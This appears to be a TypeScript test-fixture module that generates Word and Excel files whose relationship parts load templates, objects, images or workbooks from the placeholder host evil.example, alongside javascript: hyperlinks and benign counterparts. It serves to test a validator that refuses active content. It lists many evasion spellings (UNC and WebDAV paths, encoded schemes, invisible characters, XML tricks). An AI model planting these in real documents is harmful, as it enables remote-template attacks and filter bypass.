import type { HostileFile, MadeFile } from './make';
import { makeDocx, makeXlsx, repack } from './office';

const TYPES = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const NAMESPACE = 'http://schemas.openxmlformats.org/package/2006/relationships';

/** Kinds of links that a program follows by itself, with the part that lists them and what a refusal calls them. */
const FOLLOWED = {
  attachedTemplate: { part: 'word/_rels/settings.xml.rels', link: 'template' },
  image: { part: 'word/_rels/footer7.xml.rels', link: 'picture' },
  oleObject: { part: 'word/_rels/document2.xml.rels', link: 'object' },
  frame: { part: 'word/_rels/webSettings.xml.rels', link: 'object' },
  subDocument: { part: 'word/_rels/master.xml.rels', link: 'object' },
  aFChunk: { part: 'word/_rels/chunk.xml.rels', link: 'object' },
  mailMergeSource: { part: 'word/_rels/settings.xml.rels', link: 'object' },
  externalLinkPath: { part: 'xl/externalLinks/_rels/externalLink1.xml.rels', link: 'workbook' },
  xlPathMissing: { part: 'xl/externalLinks/_rels/externalLink2.xml.rels', link: 'workbook' },
} as const;
type Followed = keyof typeof FOLLOWED;

/** Places on other computers, in plain letters. */
const PLAIN = [
  'http://evil.example/t.dotm',
  'https://evil.example/t.dotm',
  'HTTPS://EVIL.EXAMPLE/T.DOTM',
  'HtTp://evil.example/t.dotm',
  'ftp://evil.example/t.dotm',
  'mhtml:http://evil.example/t.mht!x',
  'mk:@MSITStore:http://evil.example/t.chm::/t.htm',
  'ms-its:http://evil.example/t.chm',
  'smb://evil.example/share/t.dotm',
  'ldap://evil.example/x',
  'webdav://evil.example/x',
  'data:text/html,x',
  'url:http://evil.example/x',
  '\\\\evil.example\\share\\t.dotm',
  '//evil.example/share/t.dotm',
  '\\/evil.example/share/t.dotm',
  '/\\evil.example\\share\\t.dotm',
  '///evil.example/share/t.dotm',
  '\\\\?\\UNC\\evil.example\\share\\t.dotm',
  '\\\\evil.example@SSL\\DavWWWRoot\\t.dotm',
  '\\\\127.0.0.1\\c$\\t.dotm',
  'file://evil.example/share/t.dotm',
  'FILE://evil.example/share/t.dotm',
  'file:////evil.example/share/t.dotm',
  'file://///evil.example/share/t.dotm',
  'file:\\\\evil.example\\share\\t.dotm',
  'file:///\\\\evil.example\\share\\t.dotm',
  'file:/\\evil.example\\share\\t.dotm',
  'file://localhost//evil.example/share/t.dotm',
  'file:///%5C%5Cevil.example%5Cshare',
  'file:%2F%2Fevil.example/share',
  '%5c%5cevil.example%5cshare',
  '%68ttp://evil.example/t.dotm',
  '%2568ttp://evil.example/t.dotm',
  'http%3A//evil.example/t.dotm',
  '\u00a0http://evil.example/t.dotm',
  '\u200bhttp://evil.example/t.dotm',
  'ht\u00adtp://evil.example/t.dotm',
  '\uff48\uff54\uff54\uff50://evil.example/t.dotm',
  '\uff3c\uff3cevil.example\uff3cshare',
];
/** The same, by means of XML only: what stands between the quotation marks. */
const ENTITIES = [
  ' http://evil.example/t.dotm',
  '   \n\t http://evil.example/t.dotm',
  '&#104;ttp://evil.example/t.dotm',
  '&#x68;&#x74;tp://evil.example/t.dotm',
  'ht&#9;tp://evil.example/t.dotm',
  'ht&#10;tp://evil.example/t.dotm',
  '&#x5c;&#x5c;evil.example&#x5c;share',
  'http&#58;//evil.example/t.dotm',
];

const quoted = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
const listOf = (lines: string): string =>
  `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${NAMESPACE}">${lines}</Relationships>`;
const typeOf = (type: string): string =>
  type === 'xlPathMissing' ? `http://schemas.microsoft.com/office/2006/relationships/xlExternalLinkPath/${type}` : `${TYPES}/${type}`;

/** One line of a list of relationships; `target` as it stands in the XML. */
const line = (type: string, target: string, mode = ' TargetMode="External"', id = 'rId91'): string =>
  `<Relationship Id="${id}" Type="${typeOf(type)}" Target="${target}"${mode}/>`;

/** Odd spellings of the line that loads a template from the network. */
const REMOTE = 'Target="http://evil.example/t.dotm"';
const TEMPLATE = `Type="${TYPES}/attachedTemplate"`;
const SPELLINGS: Readonly<Record<string, string | Buffer>> = {
  'ten blanks before =': listOf(
    `<Relationship Id="r" ${TEMPLATE.replace('=', '          =')} ${REMOTE.replace('=', '          =')} TargetMode="External"/>`,
  ),
  'line breaks around =': listOf(`<Relationship Id\n=\n"r" ${TEMPLATE} ${REMOTE.replace('=', '\n=\n')} TargetMode\t=\t"External"/>`),
  '> in a value before it': listOf(`<Relationship Id="a>b" ${TEMPLATE} ${REMOTE} TargetMode="External"/>`),
  'a tag of 9,000 letters': listOf(`<Relationship Id="r" x="${'y'.repeat(9_000)}" ${TEMPLATE} ${REMOTE} TargetMode="External"/>`),
  'single quotation marks': listOf(`<Relationship Id='r' ${TEMPLATE} Target='http://evil.example/t.dotm' TargetMode='External'/>`),
  'a prefix': `<r:Relationships xmlns:r="${NAMESPACE}"><r:Relationship Id="r" ${TEMPLATE} ${REMOTE} TargetMode="External"/></r:Relationships>`,
  'a mode in small letters': listOf(`<Relationship Id="r" ${TEMPLATE} ${REMOTE} TargetMode="external"/>`),
  'a mode with blanks': listOf(`<Relationship Id="r" ${TEMPLATE} ${REMOTE} TargetMode=" External "/>`),
  'no mode': listOf(`<Relationship Id="r" ${TEMPLATE} ${REMOTE}/>`),
  'a closing tag': listOf(`<Relationship Id="r" ${TEMPLATE} ${REMOTE} TargetMode="External"></Relationship>`),
  'an entity in the mode': listOf(`<Relationship Id="r" ${TEMPLATE} ${REMOTE} TargetMode="&#69;xternal"/>`),
  'an entity in the type': listOf(`<Relationship Id="r" Type="${TYPES}/attached&#84;emplate" ${REMOTE} TargetMode="External"/>`),
  'the strict names of ISO 29500': listOf(
    `<Relationship Id="r" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate" ${REMOTE} TargetMode="External"/>`,
  ),
  'an unknown type': listOf(`<Relationship Id="r" Type="http://evil.example/made-up" ${REMOTE} TargetMode="External"/>`),
  'behind a comment that holds another line': listOf(
    `<!-- ${line('image', 'a.png')} --><Relationship Id="r" ${TEMPLATE} ${REMOTE} TargetMode="External"/>`,
  ),
  'a hundred harmless lines before it': listOf(
    `${line('image', 'media/a.png', '').repeat(100)}<Relationship Id="r" ${TEMPLATE} ${REMOTE} TargetMode="External"/>`,
  ),
  'a byte order mark': `\ufeff${listOf(line('attachedTemplate', 'http://evil.example/t.dotm'))}`,
  'UTF-16': Buffer.from(`\ufeff${listOf(line('attachedTemplate', 'http://evil.example/t.dotm')).replace('UTF-8', 'UTF-16')}`, 'utf16le'),
  'UTF-16 the other way round': Buffer.from(
    `\ufeff${listOf(line('attachedTemplate', 'http://evil.example/t.dotm')).replace('UTF-8', 'UTF-16')}`,
    'utf16le',
  ).swap16(),
  'UTF-16 without a mark': Buffer.from(
    listOf(line('attachedTemplate', 'http://evil.example/t.dotm')).replace('UTF-8', 'UTF-16'),
    'utf16le',
  ),
  'a hyperlink where nobody could press it': listOf(line('hyperlink', 'http://evil.example/t.dotm')),
};

const SCRIPTS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java&#9;script:alert(1)',
  '&#106;avascript:alert(1)',
  '%6Aavascript:alert(1)',
  'vbscript:x',
  'VBScript:x',
  'data:text/html;base64,PHNjcmlwdD4=',
];
const PRESSED = [
  'http://ru.wikipedia.org/wiki/JavaScript',
  'https://школа12.рф/новости?id=1&amp;x=2',
  'HTTPS://EXAMPLE.ORG',
  'mailto:teacher@example.org?subject=javascript:',
  'ftp://ftp.example.org/plan.zip',
  'file:///F:/Грамоты/Грамота.docx',
  'file:///\\\\school\\disk\\План.docx',
  '\\\\school\\disk\\План.docx',
  '../Грамоты/Грамота.docx',
  'Грамота.docx',
  'План%20урока.pdf',
  'tel:+73822555555',
  'skype:teacher?call',
  'tg://resolve?domain=x',
  'onenote:https://example.org/x',
  'ms-word:ofe|u|https://example.org/x.docx',
  '#_Toc1',
  'data.xlsx',
  'javascript.docx',
];
const LOCAL = [
  'file:///C:\\Users\\Ирина\\AppData\\Roaming\\Microsoft\\Шаблоны\\Normal.dotm',
  'file:///C:/Program%20Files/Microsoft%20Office/Templates/1049/Normal.dotm',
  'file:///C|/Templates/Normal.dotm',
  'file://C:\\Templates\\Normal.dotm',
  'file:/C:/Templates/Normal.dotm',
  'file://localhost/C:/Templates/Normal.dotm',
  'C:\\Users\\Ирина\\Pictures\\Грамота.jpg',
  'd:/Фото/1.jpg',
  '/Users/irina/Documents/Книга1.xlsx',
  'file:///home/irina/Шаблоны/school.dotx',
  'Normal.dotm',
  '../Фото/1.jpg',
  'Книга%201.xlsx',
  'cid:image001.png@01D9A1B2.C3D4E5F0',
  'NULL',
];

const withPart = (file: Buffer, part: string, content: string | Buffer): Buffer =>
  repack(file, (parts) => {
    parts[part] = Buffer.from(content as string);
  });

/** A link of a type in the part where it belongs, in a document of the kind that has such parts. */
async function linked(type: Followed, target: string): Promise<MadeFile> {
  const { part } = FOLLOWED[type];
  const excel = part.startsWith('xl/');
  const name = excel ? 'Книга.xlsx' : 'План.docx';
  return { name, bytes: withPart(excel ? await makeXlsx() : await makeDocx(), part, listOf(line(type, target))) };
}

const pressing = async (target: string, element = '<w:hyperlink r:id="rId91"/>'): Promise<MadeFile> => ({
  name: 'План.docx',
  bytes: repack(await makeDocx(), (parts) => {
    parts['word/footnotes9.xml'] = Buffer.from(`<w:p xmlns:w="w" xmlns:r="r" xmlns:a="a">${element}</w:p>`);
    parts['word/_rels/footnotes9.xml.rels'] = Buffer.from(listOf(line('hyperlink', target)));
  }),
});

/** Documents that a program would complete from another computer, in every spelling. */
export async function hostileLinks(): Promise<HostileFile[]> {
  const refused = (trick: string, file: MadeFile, params: HostileFile['params']): HostileFile => ({
    ...file,
    trick,
    code: 'FILE_HAS_ACTIVE_CONTENT',
    ...(params && { params }),
  });
  const files: HostileFile[] = [];
  const targets = [...PLAIN.map(quoted), ...ENTITIES];
  for (const [index, target] of targets.entries()) {
    // every spelling as a template, and beside it as one of the other kinds in turn
    const others = Object.keys(FOLLOWED).slice(1) as Followed[];
    for (const type of ['attachedTemplate', others[index % others.length] ?? 'image'] as Followed[])
      files.push(
        refused(`${type} at ${target}`, await linked(type, target), {
          reason: 'remote',
          link: FOLLOWED[type].link,
          part: FOLLOWED[type].part,
        }),
      );
  }
  for (const type of Object.keys(FOLLOWED) as Followed[])
    for (const target of ['https://evil.example/x', '\\\\evil.example\\share'])
      files.push(
        refused(`${type} at ${target}, for every kind`, await linked(type, target), { reason: 'remote', part: FOLLOWED[type].part }),
      );
  for (const [spelling, content] of Object.entries(SPELLINGS))
    files.push(
      refused(
        `a template from the network with ${spelling}`,
        { name: 'План.docx', bytes: withPart(await makeDocx(), 'word/_rels/settings.xml.rels', content) },
        { reason: 'remote' },
      ),
    );
  files.push(
    refused(
      'a template named in capital letters',
      {
        name: 'План.docx',
        bytes: withPart(await makeDocx(), 'WORD/_RELS/SETTINGS.XML.RELS', listOf(line('attachedTemplate', 'http://evil.example/t.dotm'))),
      },
      { reason: 'remote' },
    ),
  );
  for (const target of SCRIPTS) files.push(refused(`a hyperlink to ${target}`, await pressing(target), { reason: 'script' }));
  for (const element of [
    '<a:blip r:link="rId91"/>',
    '<w:attachedTemplate r:id="rId91"/>',
    '<w:altChunk r:id="rId91"/>',
    '<v:imagedata xmlns:v="v" o:href="rId91" xmlns:o="o"/>',
  ])
    files.push(
      refused(`a hyperlink that ${element} would fetch`, await pressing('http://evil.example/x', element), {
        reason: 'remote',
        part: 'word/footnotes9.xml',
      }),
    );
  return files;
}

/** Documents whose links are harmless: pressed by a person, or to a place on one's own computer. */
export async function honestLinks(): Promise<MadeFile[]> {
  const files: MadeFile[] = [];
  for (const target of PRESSED) files.push(await pressing(target));
  for (const element of ['<a:hlinkClick r:id="rId91"/>', '<a:hlinkHover r:id="rId91"/>'])
    files.push(await pressing('https://example.org', element));
  for (const [index, target] of LOCAL.entries()) {
    const types = ['attachedTemplate', 'image', 'externalLinkPath', 'oleObject', 'xlPathMissing', 'mailMergeSource'] as const;
    files.push(await linked(types[index % types.length] ?? 'image', quoted(target)), await linked('attachedTemplate', quoted(target)));
  }
  return files;
}
